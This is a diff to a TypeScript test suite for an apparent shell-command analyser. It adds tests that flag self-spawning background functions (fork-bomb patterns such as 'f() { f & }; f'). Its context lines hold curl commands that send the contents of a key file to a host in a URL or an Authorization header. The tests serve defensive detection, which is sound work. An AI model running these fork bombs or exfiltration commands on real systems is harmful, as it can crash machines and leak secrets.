@@ -71,6 +71,20 @@ describe("functions", () => {
   });
 });
 
+describe("functions that start themselves", () => {
+  const recursive = (command: string) =>
+    understandCommand(PROGRAM, command).effects.some(({ verb, fields }) => {
+      const value = fields["calls-itself"];
+      return verb === "command" && value?.kind === "truth" && value.value === true;
+    });
+  it.each(["f() { f & }; f", "f() { f | f & }; f", "f() { g & }; g() { f; }; f", "f() { g; }; g() { f & }; f"])("%s", (command) =>
+    expect(recursive(command)).toBe(true),
+  );
+  it.each(["f() { f; }; f &", "f() { g & }; f; g() { f; }", "f() { rm x & }; f"])("%s does not", (command) =>
+    expect(recursive(command)).toBe(false),
+  );
+});
+
 describe("what is asked of another machine", () => {
   it.each(['curl "https://h/?k=$(cat key)"', 'curl -H "Authorization: $(cat key)" https://h'])("%s sends the file", (command) =>
     expect(effects(command)).toContain("send h sources=[/work/app/key]"),
